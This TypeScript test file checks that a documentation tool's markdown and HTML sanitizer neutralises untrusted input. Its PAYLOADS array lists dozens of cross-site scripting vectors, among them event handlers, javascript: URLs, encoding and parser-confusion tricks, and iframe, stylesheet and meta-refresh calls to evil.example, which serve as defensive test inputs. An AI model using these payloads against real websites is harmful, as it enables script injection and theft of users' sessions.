/** Tests that untrusted content cannot run code, load resources or impersonate the page layout. */

import assert from "node:assert/strict";
import { test } from "node:test";
import { parseHtml, parseInline } from "../../../src/markdown/parse-fragment.ts";
import { checkUrl, isSafeImage } from "../../../src/markdown/raw-html/allowed-urls.ts";
import { readHtml } from "../../../src/markdown/raw-html/html-tokenizer.ts";
import { getDeferredStart } from "../../../src/model/deferred-sections.ts";
import type { Document } from "../../../src/model/document.ts";
import { toSourcePath } from "../../../src/model/problem.ts";
import { isShellId } from "../../../src/model/shell-ids.ts";
import { parseText } from "../parsed.ts";

const PAYLOADS = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x OnErRoR = 'alert(1)'>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x" alt="a" onload="alert(1)">',
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="x" style="position:fixed;inset:0">x</a>',
  '<a class="embed-link" data-src="https://evil.example" href="https://evil.example">x</a>',
  '<div class="embed"><a class="embed-link" href="https://evil.example/">x</a></div>',
  '<div class="code-block tabs tab-list fiddle navbar overlay">x</div>',
  '<iframe src="https://evil.example"></iframe>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  '<iframe src="javascript:alert(1)"></iframe>',
  "<object data=x></object><embed src=x><applet code=x></applet>",
  "<form action=javascript:alert(1)><input type=submit formaction=javascript:alert(1)></form>",
  "<button onclick=alert(1)>x</button><textarea autofocus onfocus=alert(1)>",
  "<style>@import 'https://evil.example';</style>",
  "<link rel=stylesheet href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<title><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp><plaintext>",
  "<template><img src=x onerror=alert(1)></template>",
  "<video src=x onerror=alert(1) autoplay><source onerror=alert(1)></video>",
  "<details open ontoggle=alert(1)>x</details>",
  '<picture><source srcset="javascript:alert(1) 1x, x 2x"></picture>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="">',
  "<a href='x' id='__page-data' name='page-data'>x</a>",
  "<p id='constructor'>x</p><p id='__proto__'>y</p>",
  "<b title='\"><script>alert(1)</script>'>x</b>",
  '<b title="a\'><img src=x onerror=alert(1)>">x</b>',
  "<b title=`><img src=x onerror=alert(1)>`>x</b>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml <img src=x onerror=alert(1)> ?>",
  "</p></article></main><h1>Taken over</h1>",
  "<b <img src=x onerror=alert(1)>>",
  "<<script>script>alert(1)<</script>/script>",
  "<scr<script></script>ipt>alert(1)</script>",
  '<a href="x"onclick="alert(1)">x</a>',
  "<custom-element onclick=alert(1)>x</custom-element>",
  "[x](javascript:alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](java&#x73;cript:alert(1))",
  "[x]( javascript:alert(1) 'y')",
  "![x](javascript:alert(1))",
  '![x](x.png "\\" onerror=alert(1) x=\\"")',
  '!["><script>alert(1)</script>](x.png)',
  "<javascript:alert(1)>",
  "`<script>alert(1)</script>`",
  "{{constructor.constructor('alert(1)')()}}",
];

const PLACES: Readonly<Record<string, (payload: string) => string>> = {
  "a block": (payload) => `# T\n\n${payload}\n\ntext`,
  "a paragraph": (payload) => `text ${payload} text`,
  "a title": (payload) => `# ${payload.replace(/\n/g, " ")}`,
  "a heading": (payload) => `# T\n\n## ${payload.replace(/\n/g, " ")}`,
  "a list item": (payload) => `- ${payload.replace(/\n/g, " ")}\n  - x`,
  "a quote": (payload) => `> ${payload.replace(/\n/g, "\n> ")}`,
  "a table": (payload) => `| a |\n|---|\n| ${payload.replace(/\n/g, " ").replace(/\|/g, "\\|")} |`,
  "the title of a note": (payload) => `:::note ${payload.replace(/\n/g, " ")}\n\nx\n\n:::`,
  "the text of a link": (payload) => `[a ${payload.replace(/\n/g, " ")} b](x.md)`,
  "an alternative text": (payload) => `![a ${payload.replace(/\n/g, " ")} b](x.png)`,
  "a footnote": (payload) => `a[^1]\n\n[^1]: ${payload.replace(/\n/g, " ")}`,
  code: (payload) => `\`\`\`js title="${payload.replace(/["\n]/g, " ")}"\n${payload}\n\`\`\``,
  "the language of code": (payload) => `\`\`\`${payload.replace(/[`\n]/g, " ")}\nx\n\`\`\``,
  "the name of a tab": (payload) => {
    const value = payload.replace(/["<>\n]/g, " ");
    return `<Tabs>\n<TabItem value="${value}" label="${value}">\n\n${payload}\n\n</TabItem>\n</Tabs>`;
  },
  "a definition": (payload) => `[a][b]\n\n[b]: <${payload.replace(/[<>\n]/g, "")}> "${payload.replace(/["\n]/g, "")}"`,
  "a history": (payload) =>
    `\`\`\`yaml history\nchanges:\n  - pr-url: https://github.com/a/b/pull/1\n    description: ${JSON.stringify(payload)}\n\`\`\``,
};

const ALLOWED =
  /^(?:a|aside|b|blockquote|br|button|code|dd|del|details|div|dl|dt|em|figure|h[2-6]|hr|i|img|input|kbd|li|ol|p|picture|pre|section|source|span|strong|sub|summary|sup|table|tbody|td|th|thead|tr|ul|video)$/;
const OUR_BUTTON = /^<button type="button" role="tab" /;
const OUR_INPUT = /^<input type="checkbox"(?: checked)? disabled>$/;

/** Tags as parsed by browsers, including attribute values. */
function tagsOf(html: string): { tag: string; name: string; attributes: [string, string][] }[] {
  return [...html.matchAll(/<([a-z][a-z0-9-]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*>/gi)].map(
    ([tag, name = "", rest = ""]) => ({
      tag,
      name: name.toLowerCase(),
      attributes: [...rest.matchAll(/\s+([^\s"'<>/=]+)(?:="([^"]*)")?/g)].map(([, key = "", value = ""]) => [
        key,
        value,
      ]),
    }),
  );
}

function assertInert(html: string): void {
  // Every "<" begins a complete tag of the output.
  const tags = tagsOf(html);
  const withoutValues = html
    .replace(/<([a-z][a-z0-9-]*)((?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*)\s*>/gi, "")
    .replace(/<\/[a-z][a-z0-9]*>/g, "");
  assert.doesNotMatch(withoutValues, /<[a-z!/?]/i, html);
  for (const { tag, name, attributes } of tags) {
    assert.match(name, ALLOWED, tag);
    if (name === "button") assert.match(tag, OUR_BUTTON);
    if (name === "input") assert.match(tag, OUR_INPUT);
    for (const [key, value] of attributes) {
      assert.doesNotMatch(key, /^(?:on|style$|srcdoc$|formaction$|action$|xlink)/i, tag);
      if (key === "id") assert.ok(!isShellId(value), tag);
      if (key === "href" || key === "src" || key === "srcset" || key === "poster") {
        assert.match(value, /^(?:#fn-|https:\/\/github\.com\/)/, `an address that is no slot: ${tag}`);
      }
      if (key === "class" && /embed/.test(value)) assert.fail(tag);
    }
  }
}

function assertBalanced(html: string): void {
  const open: string[] = [];
  for (const [, slash, name = ""] of html.matchAll(/<(\/?)([a-z][a-z0-9]*)(?:\s+[^\s"'<>/=]+(?:="[^"]*")?)*\s*>/g)) {
    if (/^(?:br|hr|img|input|source)$/.test(name)) continue;
    if (!slash) open.push(name);
    else assert.equal(open.pop(), name, html);
  }
  assert.deepEqual(open, [], html);
}

function htmlOf(document: Document): string {
  return document.body.map((part) => (typeof part === "string" ? part : "")).join("");
}

for (const [place, write] of Object.entries(PLACES)) {
  test(`no active content gets into ${place}`, () => {
    for (const payload of PAYLOADS) {
      const document = parseText(write(payload));
      const html = htmlOf(document);
      assertInert(html);
      assertBalanced(html);
      for (const heading of document.headings) assertInert(heading.html);
      assertInert(document.titleHtml ?? "");
      for (const { target, kind } of document.links) {
        const safe = kind.endsWith("sset") ? isSafeImage(target) : !checkUrl(target);
        assert.ok(safe, `${kind} ${target}`);
      }
    }
  });
}

test("no active content gets into inline strings of data", () => {
  for (const payload of PAYLOADS) {
    const { body } = parseInline(payload, { file: toSourcePath("a.yaml"), line: 1, column: 1 });
    assertInert(body.filter((part) => typeof part === "string").join(""));
  }
});

test("no active content gets into sidebar items", () => {
  for (const payload of PAYLOADS) {
    const { body } = parseHtml(payload, { file: toSourcePath("content/docs/sidebars.yaml"), line: 1, column: 1 });
    const html = body.filter((part) => typeof part === "string").join("");
    assertInert(html);
    assertBalanced(html);
  }
});

test("IDs are unique and differ from IDs of the page layout", () => {
  const document = parseText(
    '# T\n\n<a id=a></a><b id=a></b>\n\n## A\n\n## Tabs 1 a\n\n## __page-data\n\n## __below-2\n\n`<div class="later" id="__below-3">`\n\n<i id=__below-4></i>\n\n## Footnote label\n\n## fn-fn-1\n\nx[^1]\n\n[^1]: y\n\n<Tabs>\n<TabItem value=a>\n</TabItem>\n</Tabs>\n\n<p id=tabs-1-a>\n',
  );
  const headings = document.headings.map(({ id }) => id);
  const elementIds = [...htmlOf(document).matchAll(/<\w[^>]* id="([^"]+)"/g)].map((match) => match[1] as string);
  const all = [...headings, ...elementIds];
  assert.deepEqual([...new Set(all)], all);
  assert.deepEqual(all.filter(isShellId), []);
  assert.equal(htmlOf(document).includes(getDeferredStart(3)), false, "where the client cuts long texts");
});

const ADDRESSES: readonly (readonly [string, boolean, boolean])[] = [
  ["https://a.example", true, true],
  ["HTTP://a.example", true, true],
  ["//a.example/x", true, true],
  ["mailto:a@b.c", true, false],
  ["tel:+1", true, false],
  ["x.md#a:b", true, true],
  ["./x:y", true, true],
  ["?a=b:c", true, true],
  ["#a", true, true],
  ["", true, true],
  ["javascript:x", false, false],
  ["JAVASCRIPT:x", false, false],
  [" javascript:x", false, false],
  ["java\nscript:x", false, false],
  ["\u0000javascript:x", false, false],
  ["data:text/html,x", false, false],
  ["data:image/png;base64,x", false, true],
  ["data:image/svg+xml,x", false, false],
  ["file:///x", false, false],
  ["blob:x", false, false],
];

test("allowed URLs: http, https, mailto, tel and relative ones; raster images as data URLs", () => {
  for (const [address, link, image] of ADDRESSES) {
    assert.equal(checkUrl(address) === undefined, link, JSON.stringify(address));
    assert.equal(isSafeImage(address), image, JSON.stringify(address));
  }
});

test("tokens of raw HTML contain the whole text", () => {
  const types = (html: string): string[] => readHtml(html).map(({ type }) => type);
  assert.deepEqual(types("a <b c='>' d=e f>g</b><!-- h --><br/>"), [
    "text",
    "open",
    "text",
    "close",
    "comment",
    "open",
  ]);
  assert.deepEqual(types("a < b <c"), ["text", "broken"]);
  assert.deepEqual(types("<script>a < b</script>"), ["open", "text", "close"]);
  assert.deepEqual(readHtml("<a b={{c: 1}} d={\"e\"} f='&lt;&#65;&unknown;' g=h i>")[0], {
    type: "open",
    name: "a",
    attributes: [
      { name: "b", value: "{c: 1}" },
      { name: "d", value: "e" },
      { name: "f", value: "<A&unknown;" },
      { name: "g", value: "h" },
      { name: "i", value: "" },
    ],
    empty: false,
    at: 0,
  });
});
